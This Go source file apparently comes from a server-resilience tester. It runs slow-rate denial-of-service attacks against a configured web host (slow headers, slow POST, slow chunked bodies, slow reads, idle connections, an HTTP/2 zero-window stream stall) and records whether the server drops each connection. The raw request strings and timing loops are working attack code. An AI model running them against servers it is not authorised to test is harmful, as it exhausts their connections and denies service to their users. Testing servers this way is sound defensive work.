package main

import (
	"errors"
	"io"
	"net"
	"os"
	"syscall"
	"time"

	"golang.org/x/net/http2"
)

// holds are the attacks whose connections stay: each begins with what begin sends and goes on
// with what tick does every second. tick may be nil.
var holds = map[string]*struct {
	begin, tick func(c *counted) error
	// greedy reads what comes; the others never do.
	greedy bool
}{
	"stalled windows": {begin: stall, greedy: true},
	"slow heads":      {begin: write("GET / HTTP/1.1\r\nHost: " + webHost + "\r\n"), tick: write("X-Slow: 1\r\n"), greedy: true},
	"slow POST":       {begin: write("POST / HTTP/1.1\r\nHost: " + webHost + "\r\nContent-Length: 1000000\r\n\r\n"), tick: write("x"), greedy: true},
	"slow chunks":     {begin: write("POST / HTTP/1.1\r\nHost: " + webHost + "\r\nTransfer-Encoding: chunked\r\n\r\n"), tick: write("1\r\nx\r\n"), greedy: true},
	"slow read": {begin: func(c *counted) error {
		if tcp, ok := c.Conn.(*net.TCPConn); ok {
			if err := tcp.SetReadBuffer(4 << 10); err != nil {
				return err
			}
		}
		return write("GET /size?size=10000000 HTTP/1.1\r\nHost: " + webHost + "\r\n\r\n")(c)
	}, tick: func(c *counted) error {
		if err := c.SetReadDeadline(time.Now().Add(100 * time.Millisecond)); err != nil {
			return err
		}
		_, err := c.Read(make([]byte, 1))
		return err
	}},
	"idle connections": {begin: write("GET / HTTP/1.1\r\nHost: " + webHost + "\r\n\r\n"), greedy: true},
}

func write(text string) func(*counted) error {
	return func(c *counted) error {
		_, err := io.WriteString(c, text)
		return err
	}
}

// stall opens as many streams as may be and takes nothing of their answers.
func stall(c *counted) error {
	f, err := newFlow(c, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	if err != nil {
		return err
	}
	for i := range 100 {
		if err := f.open(i, true); err != nil {
			return err
		}
	}
	return f.out.Flush()
}

// hold is one connection of an attack that holds them until the end of the attack.
func (a *attacker) hold() (opened, closed bool, after time.Duration) {
	h := holds[a.kind]
	c, err := a.dial()
	if err != nil {
		return false, false, 0
	}
	defer c.Close()
	begun := time.Now()
	ended := make(chan struct{})
	if h.greedy {
		go func() {
			defer close(ended)
			// It ends with the connection.
			_, _ = discard(c)
		}()
	}
	err = h.begin(c)
	ticks := time.NewTicker(time.Second)
	defer ticks.Stop()
	over := time.After(time.Until(a.deadline))
	for {
		select {
		case <-ended:
			return true, true, time.Since(begun)
		case <-over:
			return true, false, 0
		case <-ticks.C:
		}
		if h.tick != nil && err == nil {
			err = h.tick(c)
		}
		// Who does not read learns of the end by what they send or take.
		if !h.greedy && err != nil && !errors.Is(err, os.ErrDeadlineExceeded) {
			return true, true, time.Since(begun)
		}
		if errors.Is(err, os.ErrDeadlineExceeded) {
			err = nil
		}
		if errors.Is(err, syscall.ECONNRESET) {
			return true, true, time.Since(begun)
		}
	}
}
